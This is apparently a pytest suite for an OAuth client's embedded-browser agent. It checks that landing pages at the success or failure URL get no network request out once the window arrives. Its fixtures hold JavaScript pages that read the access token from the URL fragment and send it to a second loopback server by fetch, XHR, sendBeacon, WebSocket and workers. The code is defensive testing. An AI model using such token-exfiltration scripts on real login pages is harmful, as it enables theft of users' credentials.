"""The embedded browser's success and failure pages stay silent.

A loopback provider sends a real headless Chromium (through ``EmbeddedBrowserAgent``)
to its success or failure URL in every way a provider can: a 302 whose ``Location``
carries the fragment, a chain of redirects whose last hop inherits the fragment, a
percent-encoded fragment, a script setting ``location``, a page that prerenders the
success URL or shows it in an iframe first, a page that moves itself to the success
URL with ``history.replaceState``. The landing page, if it were ever served, would fire requests in
every way a page can (inline fetch and XHR, img, preload and prefetch, CSS ``url()``
and ``@import``, an iframe, timers, ``sendBeacon``, meta refresh, a location change, a
service worker, WebSocket, EventSource, a form submitted by script, ``a ping``), each to
its own path on the provider or on a second loopback server. Over many landings
neither server may see a single request after the provider's last answer before the
landing, the landing page itself included, and the URL handed to the client still
carries the token.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import os
import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

import anyio
import anyio.to_thread
import pytest

import anyoauth
from agents.chromium import CHROMIUM_FLAGS
from anyoauth.agents import EmbeddedBrowserAgent

pytestmark = pytest.mark.anyio

LANDINGS = 42
"""Logins on asyncio (each a fresh Chromium, as the agent runs one per login). The
agent's browser side runs on an asyncio loop of its own whatever the caller's backend,
so on trio one landing per mode checks the caller's side."""

AT_ONCE = 4
"""Logins running at the same time."""

MODES = ("302", "js", "hops", "encoded", "failure", "prerender", "iframe")
"""How the provider sends the window to the special URL; the landings cycle through them."""


WEBSOCKET_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
"""The constant of RFC 6455's ``Sec-WebSocket-Accept``."""


class Recorder:
    """A loopback HTTP server that records every request it gets and answers through
    ``answer(path, query) -> (status, headers, body)``; it accepts WebSocket handshakes."""

    def __init__(self, answer: Callable[[str, dict[str, str]], tuple[int, dict[str, str], bytes]]):
        self.requests: list[tuple[float, str, str]] = []
        lock = threading.Lock()
        requests = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def handle_one_request(self) -> None:
                with suppress(OSError):  # the browser went away mid-request
                    super().handle_one_request()

            def _any(self) -> None:
                with lock:
                    requests.append((time.monotonic(), self.command, self.path))
                key = self.headers.get("Sec-WebSocket-Key")
                if key and self.headers.get("Upgrade", "").lower() == "websocket":
                    # Accept every WebSocket handshake (then close): refused ones would
                    # make Chromium delay the next ones.
                    digest = hashlib.sha1(
                        f"{key}{WEBSOCKET_GUID}".encode(), usedforsecurity=False
                    ).digest()
                    self.send_response(101)
                    self.send_header("Upgrade", "websocket")
                    self.send_header("Connection", "Upgrade")
                    self.send_header("Sec-WebSocket-Accept", base64.b64encode(digest).decode())
                    self.end_headers()
                    return
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                parts = urlsplit(self.path)
                status, headers, body = answer(parts.path, dict(parse_qsl(parts.query)))
                self.send_response(status)
                for name, value in {"Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _any

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"

    def paths(self) -> list[str]:
        """The paths requested so far (with their queries)."""
        return [path for _, _, path in self.requests]


@asynccontextmanager
async def serving(recorder: Recorder) -> AsyncIterator[Recorder]:
    thread = threading.Thread(target=recorder.server.serve_forever)
    thread.start()
    try:
        yield recorder
    finally:
        await anyio.to_thread.run_sync(recorder.server.shutdown)
        recorder.server.server_close()
        await anyio.to_thread.run_sync(thread.join)


def noisy_page(provider: str, other: str) -> bytes:
    """A landing page that fires requests in every way a page can, each to its own
    ``/leak/...`` path on the provider or on the other server."""
    p, o = provider, other
    return f"""<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url={o}/leak/meta-refresh">
<link rel="preload" href="{o}/leak/preload" as="fetch" crossorigin>
<link rel="prefetch" href="{p}/leak/prefetch">
<link rel="stylesheet" href="{o}/leak/stylesheet.css">
<link rel="icon" href="{p}/leak/icon.png">
<style>
@import url("{p}/leak/css-import.css");
body {{ background: url("{o}/leak/css-url.png"); }}
</style>
<script src="{p}/leak/script.js"></script>
</head><body>
<img src="{o}/leak/img.png">
<iframe src="{o}/leak/iframe"></iframe>
<a id="ping" href="#x" ping="{o}/leak/ping">x</a>
<form id="form" method="post" action="{o}/leak/form"><input name="h" value="x"></form>
<script>
const P = {json.dumps(p)}, O = {json.dumps(o)};
const h = encodeURIComponent(location.hash);
fetch(O + "/leak/fetch?h=" + h, {{mode: "no-cors"}});
fetch(P + "/leak/fetch-post", {{method: "POST", body: h}});
const xhr = new XMLHttpRequest(); xhr.open("GET", P + "/leak/xhr?h=" + h); xhr.send();
navigator.sendBeacon(O + "/leak/beacon", h);
fetch(O + "/leak/keepalive", {{method: "POST", body: h, keepalive: true, mode: "no-cors"}});
new Image().src = O + "/leak/image?h=" + h;
try {{ new EventSource(O + "/leak/eventsource"); }} catch (e) {{}}
try {{ new WebSocket(O.replace("http", "ws") + "/leak/websocket"); }} catch (e) {{}}
try {{ new Worker(P + "/leak/worker.js"); }} catch (e) {{}}
if (navigator.serviceWorker) {{
  navigator.serviceWorker.register("/leak/service-worker.js").catch(() => {{}});
}}
document.getElementById("ping").click();
setTimeout(() => fetch(P + "/leak/timeout", {{mode: "no-cors"}}), 0);
setTimeout(() => fetch(O + "/leak/timeout-50", {{mode: "no-cors"}}), 50);
setInterval(() => fetch(P + "/leak/interval", {{mode: "no-cors"}}), 10);
addEventListener("pagehide", () => navigator.sendBeacon(O + "/leak/pagehide", h));
setTimeout(() => document.getElementById("form").submit(), 30);
setTimeout(() => {{ location.href = O + "/leak/location?h=" + h; }}, 60);
</script></body></html>""".encode()


def moving_script(other: str, fragment: str) -> str:
    """A script that moves its page to the success URL without loading it, then, from
    the next tasks on (the change is seen by then), fires requests every 10 ms."""
    return f"""
history.replaceState(null, "", "/landing#{fragment}");
const O = {json.dumps(other)};
setTimeout(() => {{
  const frame = document.createElement("iframe");
  frame.src = O + "/leak/iframe";
  document.body.appendChild(frame);
  setTimeout(() => {{ location.href = O + "/leak/location"; }}, 100);
}}, 20);
setInterval(() => {{
  fetch("/leak/fetch", {{mode: "no-cors"}});
  const xhr = new XMLHttpRequest(); xhr.open("GET", O + "/leak/xhr"); xhr.send();
  new Image().src = O + "/leak/image?" + Math.random();
  navigator.sendBeacon(O + "/leak/beacon", location.hash);
  fetch(O + "/leak/keepalive", {{method: "POST", body: "x", keepalive: true, mode: "no-cors"}});
}}, 10);
"""


def socket_script(other: str, fragment: str) -> str:
    """A script that starts a dedicated and a shared worker, moves its page to the
    success URL without loading it once both run, then, from the next tasks on, has the
    page and both workers fire a fetch and open a WebSocket every 10 ms. Their requests
    are tagged ``before`` until one of the page's or their own fetches has failed (the
    agent has seen the end by then; the page tells the workers), ``after`` from then on.
    """
    noise = f"""
const O = {json.dumps(other)};
const scope = self.constructor.name;
let phase = "before";
const ended = () => {{ phase = "after"; }};
const noise = () => setInterval(() => {{
  const tag = scope + "-" + phase;
  fetch(O + "/leak/fetch-" + tag, {{mode: "no-cors"}}).catch(() => ended());
  try {{ new WebSocket(O.replace("http", "ws") + "/leak/websocket-" + tag); }}
  catch (e) {{}}
}}, 10);
const listen = (port) => {{
  port.onmessage = (e) => (e.data === "go" ? noise() : ended());
  port.postMessage("up");
}};
"""
    worker = noise + "listen(self);"
    shared = noise + "onconnect = (e) => listen(e.ports[0]);"
    return f"""
{noise}
const code = (text) => URL.createObjectURL(new Blob([text], {{type: "text/javascript"}}));
const workers = [new Worker(code({json.dumps(worker)})),
                 new SharedWorker(code({json.dumps(shared)})).port];
let up = 0;
workers.forEach((port) => {{ port.onmessage = () => {{
  if (++up < 2) return;
  history.replaceState(null, "", "/landing#{fragment}");
  workers.forEach((w) => w.postMessage("go"));
  noise();
}}; }});
fetch = ((original) => (...args) => original(...args).catch((e) => {{
  workers.forEach((w) => w.postMessage("end"));
  throw e;
}}))(fetch);
"""


class Provider:
    """The loopback provider: ``/authorize/MODE`` sends the window to ``/landing`` (or
    ``/landing-failed``) with the token in the fragment; every landing page is noisy."""

    def __init__(self) -> None:
        self.recorder = Recorder(self.answer)
        self.other = Recorder(lambda path, query: (404, {}, b""))
        self.base = self.recorder.base

    def fragment(self, mode: str, query: dict[str, str]) -> str:
        if mode == "failure":
            params = {"status": "unauthorized", "message": "user canceled"}
        else:
            params = {"access_token": query["n"], "expires_in": "600"}
        return urlencode({**params, "state": query["state"]})

    def answer(self, path: str, query: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        html = {"Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store"}
        quiet = '<link rel="icon" href="data:,">'
        if path.startswith("/authorize/"):
            mode = path.rsplit("/", 1)[1]
            fragment = self.fragment(mode, query)
            target = "/landing-failed" if mode == "failure" else "/landing"
            if mode in ("302", "failure"):
                return 302, {"Location": f"{self.base}{target}#{fragment}"}, b""
            if mode == "encoded":
                return 302, {"Location": f"{target}#{quote(fragment, safe='')}"}, b""
            if mode == "hops":
                return 302, {"Location": f"/hop#{fragment}"}, b""
            script = f"location.href = {json.dumps(f'{target}#{fragment}')};"
            if mode == "prerender":
                rules = json.dumps({"prerender": [{"source": "list", "urls": [target]}]})
                head = f'{quiet}<script type="speculationrules">{rules}</script>'
                script = f"setTimeout(() => {{ {script} }}, 400);"
                return 200, html, f"{head}<script>{script}</script>".encode()
            if mode == "iframe":
                frame = f'{quiet}<iframe src="{target}"></iframe>'
                script = f"setTimeout(() => {{ {script} }}, 400);"
                return 200, html, f"{frame}<script>{script}</script>".encode()
            if mode == "replace-state":
                moving = moving_script(self.other.base, fragment)
                return 200, html, f"{quiet}<script>{moving}</script>".encode()
            if mode == "replace-state-sockets":
                sockets = socket_script(self.other.base, fragment)
                return 200, html, f"{quiet}<script>{sockets}</script>".encode()
            return 200, html, f"{quiet}<script>{script}</script>".encode()
        if path == "/hop":
            return 302, {"Location": "/landing"}, b""  # the fragment is inherited
        if path in ("/landing", "/landing-failed"):
            return 200, html, noisy_page(self.base, self.other.base)
        return 404, {}, b""

    def strategy(self, mode: str, n: str) -> anyoauth.ImplicitDesktop:
        return anyoauth.ImplicitDesktop(
            client_id="app",
            authorization_endpoint=f"{self.base}/authorize/{mode}?n={n}",
            success_url=f"{self.base}/landing",
            failure_url=f"{self.base}/landing-failed",
        )


def agent(chromium_path: str, tmp_path: Path) -> EmbeddedBrowserAgent:
    return EmbeddedBrowserAgent(
        executable_path=chromium_path,
        headless=True,
        args=CHROMIUM_FLAGS,
        temp_dir=tmp_path,
        timeout=60.0,
    )


def allowed(path: str) -> bool:
    """What the provider may see: the authorization requests and the redirect hop."""
    return path.startswith("/authorize/") or path == "/hop"


async def test_no_request_reaches_the_network_once_the_window_lands(
    chromium_path: str, tmp_path: Path, anyio_backend: str
) -> None:
    provider = Provider()
    outcomes: dict[str, object] = {}
    count = LANDINGS if anyio_backend == "asyncio" else len(MODES)
    landings = [(MODES[i % len(MODES)], f"tok-{i}") for i in range(count)]

    async def login(mode: str, n: str, limit: anyio.CapacityLimiter) -> None:
        async with limit, anyoauth.Client(provider.strategy(mode, n)) as client:
            try:
                outcomes[n] = (await client.login(agent(chromium_path, tmp_path))).access_token
            except anyoauth.AuthorizationDenied as denied:
                outcomes[n] = (denied.error, denied.error_description)

    async with serving(provider.recorder), serving(provider.other):
        limit = anyio.CapacityLimiter(AT_ONCE)
        async with anyio.create_task_group() as task_group:
            for mode, n in landings:
                task_group.start_soon(login, mode, n, limit)
        await anyio.sleep(0.5)  # anything still on its way arrives
        seen = provider.recorder.paths()
        leaks = [path for path in seen if not allowed(path)] + provider.other.paths()

    assert leaks == []
    # Each login asked the provider once (and followed the one hop where there is one).
    assert len([path for path in seen if path.startswith("/authorize/")]) == count
    assert seen.count("/hop") == sum(mode == "hops" for mode, _ in landings)
    # The URL handed to the client carried the fragment in every case.
    for mode, n in landings:
        expected = ("unauthorized", "user canceled") if mode == "failure" else n
        assert outcomes[n] == expected, mode
    assert os.listdir(tmp_path) == []  # every profile was deleted


async def test_a_page_that_moves_itself_to_the_success_url_is_cut_off(
    chromium_path: str, tmp_path: Path
) -> None:
    """``history.replaceState`` loads nothing: the window's URL ends the watch, and the
    page, still open until Chromium closes, gets no further request out (requests in
    the very script task of the change are a known gap, see docs/agents.md)."""
    provider = Provider()
    async with serving(provider.recorder), serving(provider.other):
        for n in ("tok-a", "tok-b", "tok-c"):
            async with anyoauth.Client(provider.strategy("replace-state", n)) as client:
                token = await client.login(agent(chromium_path, tmp_path))
            assert token.access_token == n
        await anyio.sleep(0.5)
        leaks = [p for p in provider.recorder.paths() if not allowed(p)] + provider.other.paths()
    assert leaks == []
    assert len(provider.recorder.paths()) == 3


async def test_a_page_at_the_success_url_opens_no_websocket_after_the_end(
    chromium_path: str, tmp_path: Path, anyio_backend: str
) -> None:
    """WebSocket handshakes are outside the request interception. From the moment the
    page moves itself to the success URL, the page and its dedicated and shared
    workers fire a fetch and open a WebSocket every 10 ms. Once one of the page's or
    their own fetches has failed (the agent has seen the end), none of them gets a
    request or a handshake out. The handshakes they open before the agent has cut
    the browser off are the known gap (docs/agents.md), only counted here."""
    provider = Provider()
    logins = 8 if anyio_backend == "asyncio" else 2
    async with serving(provider.recorder), serving(provider.other):
        for i in range(logins):
            n = f"tok-{i}"
            async with anyoauth.Client(provider.strategy("replace-state-sockets", n)) as client:
                token = await client.login(agent(chromium_path, tmp_path))
            assert token.access_token == n
        await anyio.sleep(0.5)
        leaks = [p for p in provider.recorder.paths() if not allowed(p)] + provider.other.paths()
    early = [p for p in leaks if p.endswith("-before")]
    print(f"requests and handshakes before the cut-off: {len(early)} in {logins} logins")
    assert [p for p in leaks if p not in early] == []
    assert len(provider.recorder.paths()) == logins
